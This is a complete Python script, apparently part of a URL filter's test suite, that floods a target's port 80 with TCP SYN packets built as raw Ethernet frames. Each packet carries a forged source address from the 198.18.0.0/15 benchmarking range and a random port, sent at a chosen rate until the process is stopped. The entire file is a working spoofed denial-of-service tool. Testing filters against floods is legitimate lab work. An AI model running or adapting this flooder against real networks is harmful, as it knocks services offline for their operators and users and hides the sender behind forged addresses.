#!/usr/bin/env python3
"""A spoofed SYN flood for the URL filter's evasion suite: raw Ethernet frames on argv[1]
(from MAC argv[2] to MAC argv[3]), TCP SYNs to argv[4]:80 from random addresses of
198.18.0.0/15 and random ports, argv[5] per second until killed; prints the count sent on
SIGTERM."""
import os
import random
import signal
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src_mac, dst_mac, dst_ip):
    src_ip = bytes([198, 18 + random.getrandbits(1), random.getrandbits(8), random.getrandbits(8) | 1])
    sport, seq = random.randint(1024, 65535), random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, 80, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ifname, src, dst, dst_ip, rate = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5])
    mac = lambda m: bytes.fromhex(m.replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    sent = [0]

    def done(*_):
        print(sent[0], flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, done)
    batch, period = max(rate // 100, 1), 0.01
    nxt = time.monotonic()
    while True:
        for _ in range(batch):
            s.send(syn(mac(src), mac(dst), socket.inet_aton(dst_ip)))
            sent[0] += 1
        nxt += period
        time.sleep(max(0.0, nxt - time.monotonic()))


main()
